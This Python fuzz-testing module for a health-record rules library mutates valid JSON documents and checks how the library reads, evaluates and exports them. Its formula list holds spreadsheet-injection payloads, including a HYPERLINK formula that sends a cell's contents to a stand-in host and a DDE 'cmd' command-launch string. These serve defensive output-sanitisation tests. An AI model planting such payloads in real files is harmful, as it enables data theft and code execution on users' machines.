"""Mutations of valid documents and what the library must do with them (SPEC §6, §8, §9).

Shared by the fuzz tests (``tests/test_fuzz.py``, a bounded budget) and the fuzz script
(``benchmarks/fuzz.py``, 50,000 inputs). Each mutation turns a valid document (an example
file, a generated case, a consent checklist) into text a careless or hostile user could
send; :func:`judge` reads it, evaluates it and writes every output, and says what happened:

- ``refused``: a ``DmeRulesError`` (what bad input must give);
- ``accepted``: a result, and the result is sound;
- ``crash``: any other exception (a bug);
- ``accepted-bad``: a result for facts that cannot be true, or outputs that do not read back
  (a bug too).
"""

from __future__ import annotations

import io
import json
import random
import re
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout
from datetime import date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from dme_rules import (
    ConsentAnswers,
    DmeRulesError,
    MigrationCase,
    evaluate,
    sensitivity,
)
from dme_rules.cli import main
from dme_rules.jurisdictions.fr.subjects import DmpRecord

EXAMPLES = Path(__file__).parent.parent / "examples"

#: The instants the documents are evaluated at: before, during and long after a migration.
AS_OF = [
    datetime.fromisoformat(text)
    for text in ("2021-11-01T12:00:00-04:00", "2025-09-01T12:00:00-04:00",
                 "2199-12-31T12:00:00-05:00")
]  # fmt: skip


def seeds() -> list[tuple[str, dict[str, Any]]]:
    """Every example document, by kind (``case``, ``consent`` or ``dmp-record``)."""
    found = []
    for folder, kind in (("cases", "case"), ("consent", "consent"), ("dmp", "dmp-record")):
        for path in sorted((EXAMPLES / folder).glob("*.json")):
            found.append((kind, json.loads(path.read_text(encoding="utf-8"))))
    return found


# -- mutations ------------------------------------------------------------------------------

_ODD_VALUES: list[Any] = [
    None, True, False, 0, -1, 1, 2**63, 10**400, 1.5, float("nan"), float("inf"), "", " ",
    "\u200b", "\ud800", "\x00", "a" * 10_000, [], {}, [1, [2, [3]]], {"x": {"y": 1}},
]  # fmt: skip
_ODD_DATES = [
    "0001-01-01", "9999-12-31", "1899-12-31", "2201-01-01", "2025-02-30", "2025-13-01",
    "2025-1-1", "20250101", "2025-06-20T10:00:00-04:00", "\u0662\u0660\u0662\u0665-01-01",
    "2024-02-29", "2023-02-29",
]  # fmt: skip
_ODD_INSTANTS = [
    "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2025-06-20T10:00:00",
    "2025-06-20T25:00:00-04:00", "2025-02-30T10:00:00-05:00", "2025-06-20T10:00:00Z",
    "2025-06-20T10:00:00.1234567-04:00", "2025-06-20T23:59:60-04:00", "2025-06-20",
    "2200-12-31T23:00:00-12:00", "1900-01-01T00:00:00+14:00", "2025-03-09T02:30:00-05:00",
]  # fmt: skip
_ODD_AMOUNTS = [
    "0E-7", "1E+3", "-0", "-1", " 1", "1 ", "1,000", "1_000", "0x10", "Infinity", "NaN",
    "\u0665\u0660\u0660", "\uff15\uff10\uff10", "1" * 40, "0." + "0" * 40 + "1", "1.", ".5",
    "0.0000000", 500, -500, 1e3, "1e3",
]  # fmt: skip
_ODD_TEXTS = ["", " ", "\u200b", "\ud800", "\x00", "\u202e", "a\udfffb", "é" * 5000, "\t\n"]


def _paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path to a value inside a JSON document."""
    found = [path]
    if isinstance(value, dict):
        for key, item in value.items():
            found += _paths(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            found += _paths(item, (*path, index))
    return found


def _replace(document: Any, path: tuple[Any, ...], new: Any) -> Any:
    if not path:
        return new
    copy = json.loads(json.dumps(document))
    target = copy
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = new
    return copy


def _leaves_like(document: Any, pattern: re.Pattern[str]) -> list[tuple[Any, ...]]:
    found = []
    for path in _paths(document):
        value = document
        for step in path:
            value = value[step]
        if isinstance(value, str) and pattern.match(value):
            found.append(path)
    return found


_DATE_LIKE = re.compile(r"\d{4}-\d{2}-\d{2}\Z")
_INSTANT_LIKE = re.compile(r"\d{4}-\d{2}-\d{2}T")
_AMOUNT_LIKE = re.compile(r"\d+(\.\d+)?\Z")


def _text(document: Any) -> str:
    return json.dumps(document, ensure_ascii=False, allow_nan=True)


def _one_of(rng: random.Random, document: Any, paths: list[Any], values: list[Any]) -> str:
    if not paths:
        paths = _paths(document)[1:] or [()]
    return _text(_replace(document, rng.choice(paths), rng.choice(values)))


def mutate_type(rng: random.Random, document: Any) -> str:
    """Any value replaced by one of another type or at an edge."""
    return _one_of(rng, document, _paths(document)[1:], _ODD_VALUES)


def mutate_date(rng: random.Random, document: Any) -> str:
    """A date replaced by an edge or an impossible one."""
    return _one_of(rng, document, _leaves_like(document, _DATE_LIKE), _ODD_DATES)


def mutate_instant(rng: random.Random, document: Any) -> str:
    """An instant replaced by an edge, a naive one, an impossible one."""
    return _one_of(rng, document, _leaves_like(document, _INSTANT_LIKE), _ODD_INSTANTS)


def mutate_amount(rng: random.Random, document: Any) -> str:
    """An amount (or any number-like text) replaced by a malformed one."""
    paths = [p for p in _paths(document) if p and p[-1] == "fee"]
    return _one_of(rng, document, paths, _ODD_AMOUNTS)


def mutate_text(rng: random.Random, document: Any) -> str:
    """A text field (or an address, a feature) replaced by an invisible or broken one."""
    names = {"case_id", "source_solution", "target_solution", "feature"}
    paths = [p for p in _paths(document) if p and (p[-1] in names or "sent_to" in p[:-1])]
    return _one_of(rng, document, paths, _ODD_TEXTS)


#: Visible text with a character a workbook or a page cannot hold inside it.
_CONTROL_TEXTS = ["A\x0bB", "A\x00B", "x\x13", "\x1bN", "a\x7fb", "a\x85b", "a\x0cb", "a\rb"]
#: Visible text that a spreadsheet would take for a formula.
_FORMULA_TEXTS = [
    '=HYPERLINK("http://example.invalid/"&B3,"click")', "=1+2", "+1+2", "-2+3", "@SUM(A1)",
    "\t=1", "\r=1", "=cmd|' /C calc'!A0", "-1", "=",
]  # fmt: skip


def mutate_control(rng: random.Random, document: Any) -> str:
    """A text field given a control character among visible ones (read as valid)."""
    names = {"case_id", "source_solution", "target_solution", "record_id"}
    paths = [p for p in _paths(document) if p and p[-1] in names]
    return _one_of(rng, document, paths, _CONTROL_TEXTS)


def mutate_formula(rng: random.Random, document: Any) -> str:
    """A text field that a spreadsheet would read as a formula (read as valid)."""
    names = {"case_id", "source_solution", "target_solution", "record_id"}
    paths = [p for p in _paths(document) if p and p[-1] in names]
    return _one_of(rng, document, paths, _FORMULA_TEXTS)


def mutate_keys(rng: random.Random, document: Any) -> str:
    """A key added, removed, doubled or oddly spelled, in some object of the document."""
    objects = [p for p in _paths(document) if isinstance(_at(document, p), dict)]
    path = rng.choice(objects)
    target = dict(_at(document, path))
    choice = rng.randrange(4)
    if choice == 0 and target:
        target.pop(rng.choice(list(target)))
    elif choice == 1:
        target[rng.choice(["typo", "Case_id", "\ud800", "", "subject", "import_"])] = 1
    elif choice == 2 and target:  # a key given twice, in the text
        key = rng.choice(list(target))
        text = _text(_replace(document, path, target))
        doubled = json.dumps(key, ensure_ascii=False)
        return text.replace(f"{doubled}:", f"{doubled}: 1, {doubled}:", 1)
    else:
        target["subject"] = rng.choice(["qc.migration.case", "qc.emr.consent-assessment", "x"])
    return _text(_replace(document, path, target))


def mutate_structure(rng: random.Random, document: Any) -> str:
    """The document or a block wrapped, nested deep, or replaced by a list."""
    choice = rng.randrange(4)
    if choice == 0:
        depth = rng.choice([10, 900, 5000])
        return "[" * depth + _text(document) + "]" * depth
    if choice == 1:
        return _text([document])
    if choice == 2:
        paths = [p for p in _paths(document)[1:] if isinstance(_at(document, p), (dict, list))]
        return _text(_replace(document, rng.choice(paths or [()]), [_at(document, ())]))
    return rng.choice(["", "null", "true", "[]", "{}", '"x"', "1", "{" * 3])


def mutate_bytes(rng: random.Random, document: Any) -> bytes:
    """The text cut, with bytes inserted, a byte-order mark, or another encoding."""
    raw = _text(document).encode("utf-8")
    choice = rng.randrange(5)
    if choice == 0:
        return raw[: rng.randrange(len(raw))]
    if choice == 1:
        at = rng.randrange(len(raw))
        return raw[:at] + bytes(rng.randrange(256) for _ in range(3)) + raw[at:]
    if choice == 2:
        return b"\xef\xbb\xbf" + raw
    if choice == 3:
        return _text(document).encode("utf-16")
    return raw.replace(b'"', b"'", 1)


def mutate_facts(rng: random.Random, document: Any) -> str:
    """Facts that cannot be true: an act before the request, a follow-up before its
    complaint, an access ending before the import."""
    copy = json.loads(json.dumps(document))
    if "request_transmitted_at" not in copy:
        return _text(copy)
    choice = rng.randrange(3)
    if choice == 0:
        block = rng.choice(["extraction", "import", "preanalysis"])
        field = {"extraction": "delivered_on", "import": "completed_on",
                 "preanalysis": "submitted_on"}[block]  # fmt: skip
        copy[block] = {**(copy.get(block) or {}), field: "2020-01-01"}
    elif choice == 1:
        copy["complaints"] = [{"filed_at": "2025-08-20T10:00:00-04:00",
                               "followed_up_at": "2025-08-19T10:00:00-04:00"}]  # fmt: skip
    else:
        copy["import"] = {"completed_on": "2025-08-05"}
        copy["read_only_access"] = {"until": "2025-08-01", "fee": "0"}
    return _text(copy)


def _at(document: Any, path: tuple[Any, ...]) -> Any:
    for step in path:
        document = document[step]
    return document


#: Every class of mutation, by name.
MUTATIONS: dict[str, Callable[[random.Random, Any], str | bytes]] = {
    "type": mutate_type,
    "date": mutate_date,
    "instant": mutate_instant,
    "amount": mutate_amount,
    "text": mutate_text,
    "keys": mutate_keys,
    "structure": mutate_structure,
    "bytes": mutate_bytes,
    "facts": mutate_facts,
    "control": mutate_control,
    "formula": mutate_formula,
}


# -- judging ---------------------------------------------------------------------------------

_PLAIN_AMOUNT = re.compile(r"[0-9]+(\.[0-9]+)?\Z")
_ASCII_DATE = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}")


def _field_name(path: tuple[Any, ...]) -> str:
    """The name of the field a path leads to (a list item's list)."""
    names = [step for step in path if isinstance(step, str)]
    return names[-1] if names else ""


def _is_dated(path: tuple[Any, ...]) -> bool:
    name = _field_name(path)
    return name.endswith(("_on", "_at")) or name == "until"


def _unsound(subject: Any) -> str | None:
    """Why an accepted subject's facts cannot be true (SPEC §6), by an oracle written apart
    from the reader; ``None`` when they can."""
    document = subject.to_dict()
    if type(subject).from_dict(json.loads(subject.to_json())) != subject:
        return "does not read back"
    for path in _paths(document):
        value = _at(document, path)
        if not isinstance(value, str):
            continue
        if any("\ud800" <= c <= "\udfff" for c in value):
            return f"lone surrogate at {path}"
        if not value.strip(" \t\n\u200b\u200c\u200d\ufeff\u202e\x00"):
            return f"invisible text at {path}"
        if _is_dated(path) and not (_ASCII_DATE.match(value) and 1900 <= int(value[:4]) <= 2200):
            return f"date {value!r} at {path}"
        if _field_name(path) == "fee" and not _PLAIN_AMOUNT.match(value):
            return f"amount written {value!r}"
    if isinstance(subject, MigrationCase):
        requested = subject.requested_on
        for path in _paths(document):
            value = _at(document, path)
            name = _field_name(path)
            dated = isinstance(value, str) and name.endswith("_on")
            if dated and date.fromisoformat(value) < requested:
                return f"act before the request at {path}"
        for complaint in subject.complaints or ():
            followed = complaint.followed_up_at
            if followed is not None and followed < complaint.filed_at:
                return "follow-up before its complaint"
        imported = subject.import_.completed_on if subject.import_ else None
        until = subject.read_only_access.until if subject.read_only_access else None
        if imported and until and until < imported:
            return "access ending before the import"
    if isinstance(subject, DmpRecord):
        if (
            subject.closed_on
            and subject.authorized_on
            and subject.closed_on < subject.authorized_on
        ):
            return "closure before the authorization"
        if subject.purged_on and subject.closed_on and subject.purged_on < subject.closed_on:
            return "purge before the closure"
        for deposit in subject.deposits or ():
            day = deposit.at.astimezone(ZoneInfo("Europe/Paris")).date()
            for act in (deposit.announcement_on, deposit.holder_informed_on,
                        deposit.made_accessible_on):  # fmt: skip
                if act is not None and act < day:
                    return "a deposit's act before the deposit"
        for items, key in ((subject.deposits, "deposit_id"), (subject.accesses, "access_id")):
            ids = [getattr(item, key) for item in items or ()]
            if len(ids) != len(set(ids)):
                return f"a {key} given twice"
    return None


#: The reader of each kind of document.
READERS: dict[str, Any] = {
    "case": MigrationCase,
    "consent": ConsentAnswers,
    "dmp-record": DmpRecord,
}


def judge(payload: str | bytes, kind: str) -> tuple[str, str]:
    """What reading, evaluating and writing ``payload`` gives: ``(outcome, detail)``."""
    reader = READERS[kind]
    try:
        subject = reader.from_json(payload)
    except DmeRulesError:
        return "refused", ""
    except Exception as error:  # what the fuzzer looks for
        return "crash", f"read: {type(error).__name__}: {error}"[:200]
    try:
        unsound = _unsound(subject)
        if unsound:
            return "accepted-bad", unsound
        for as_of in AS_OF:
            try:
                report = evaluate(subject, as_of)
            except DmeRulesError:
                continue  # a case whose time limits leave the supported years, named
            for lang in ("fr", "en"):
                report.to_json(lang)
                report.to_fhir(lang)
                report.to_records(lang)
                report.lines(lang)
                report._repr_html_(lang)
                for finding in report.findings:
                    report.explain(finding.rule_id, lang)
            str(report)
            json.dumps(report.to_dict())
        sensitivity(subject, AS_OF[1]).to_json()
    except DmeRulesError:
        return "accepted", "refused at evaluation"
    except Exception as error:
        return "crash", f"evaluate: {type(error).__name__}: {error}"[:200]
    return "accepted", ""


def judge_cli(payload: str | bytes, kind: str, folder: Path) -> tuple[str, str]:
    """The command line on ``payload`` (in this process): exit 0, 1 or 2, one line on
    standard error when 2, never a traceback."""
    path = folder / "input.json"
    path.write_bytes(
        payload if isinstance(payload, bytes) else payload.encode("utf-8", "surrogatepass")
    )
    argv = (["consent", str(path)] if kind == "consent"
            else ["check", str(path), "--as-of", "2025-09-01"])  # fmt: skip
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(argv)
    errors = err.getvalue()
    if code not in (0, 1, 2) or "Traceback" in errors:
        return "crash", f"exit {code}: {errors[:200]}"
    if code == 2 and len(errors.strip().splitlines()) != 1:
        return "crash", f"exit 2 with {len(errors.splitlines())} lines on stderr"
    return "refused" if code == 2 else "accepted", ""


# -- the audit's outputs --------------------------------------------------------------------

#: What a spreadsheet may take for the start of a formula.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: The characters a workbook cannot hold.
_UNHOLDABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def judge_audit(payload: str | bytes, folder: Path) -> tuple[str, str]:
    """The audit (in this process) of ``payload`` into a workbook, a page and a spreadsheet's
    CSV, each read back by its own reader, and into the input itself (which must be refused,
    the input untouched): ``("crash", why)`` on any fault, else ``("accepted", "")``."""
    import csv

    import openpyxl

    path = folder / "input.json"
    data = payload if isinstance(payload, bytes) else payload.encode("utf-8", "surrogatepass")
    path.write_bytes(data)
    for name in ("audit.xlsx", "audit.html", "audit.csv", "input.json"):
        out = folder / name
        argv = ["audit", str(path), "--as-of", "2025-09-01", "--out", str(out)]
        argv += ["--excel"] if name == "audit.csv" else []
        err = io.StringIO()
        with redirect_stdout(io.StringIO()), redirect_stderr(err):
            code = main(argv)
        if code not in (0, 1, 2) or "Traceback" in err.getvalue():
            return "crash", f"audit --out {name}: exit {code}: {err.getvalue()[:200]}"
        if name == "input.json":
            if (code, path.read_bytes()) != (2, data):
                return "crash", "audit --out INPUT: the input was written over"
            continue
        if not out.exists():
            return "crash", f"audit --out {name}: no output"
        if name == "audit.xlsx":
            for row in openpyxl.load_workbook(out).worksheets[0].iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        return "crash", f"a formula in the workbook: {cell.value!r}"
        elif name == "audit.html":
            if _UNHOLDABLE.search(out.read_text("utf-8")):
                return "crash", "a control character in the page"
        else:
            with out.open(encoding="utf-8-sig", newline="") as stream:
                for line in list(csv.reader(stream, delimiter=";"))[1:]:
                    for cell in line:
                        if cell.startswith(_FORMULA_START) and not re.fullmatch(
                            r"-?[0-9]+(,[0-9]+)?", cell
                        ):
                            return "crash", f"a formula in the spreadsheet's CSV: {cell!r}"
        out.unlink()
    return "accepted", ""


# -- log tables of the wrong types ------------------------------------------------------------


def mutate_log_table(rng: random.Random, tables: dict[str, Any]) -> tuple[dict[str, Any], str]:
    """The DMP log tables (Arrow) with one column of one table turned into another type
    (integers, text, floats, booleans, naive instants or all nulls): the tables and
    ``table.column``."""
    import pyarrow as pa

    table_name = rng.choice(sorted(tables))
    table = tables[table_name]
    column = rng.choice(table.column_names)
    rows = table.num_rows
    kinds = [
        pa.array([rng.randrange(-5, 5) for _ in range(rows)], pa.int64()),
        pa.array(
            [rng.choice(["", "   ", "\u200b", "yes", "2025-13-01", "x"]) for _ in range(rows)]
        ),
        pa.array([rng.random() for _ in range(rows)], pa.float64()),
        pa.array([rng.random() < 0.5 for _ in range(rows)], pa.bool_()),
        pa.array([datetime(rng.choice([1850, 2025, 2500]), 1, 1) for _ in range(rows)]),
        pa.nulls(rows, pa.string()),
    ]
    changed = dict(tables)
    index = table.schema.get_field_index(column)
    changed[table_name] = table.set_column(index, column, rng.choice(kinds))
    return changed, f"{table_name}.{column}"


def judge_log_tables(tables: dict[str, Any]) -> tuple[str, str]:
    """What the DMP log audit does with ``tables``: ``refused`` (a DmeRulesError),
    ``accepted``, or ``crash`` (any other exception, a database's own among them)."""
    from dme_rules.jurisdictions.fr.dmp_logs import audit_dmp_logs

    try:
        audit_dmp_logs(tables, as_of=AS_OF[1])
    except DmeRulesError:
        return "refused", ""
    except Exception as error:  # what the fuzzer looks for
        return "crash", f"{type(error).__name__}: {error}"[:200]
    return "accepted", ""
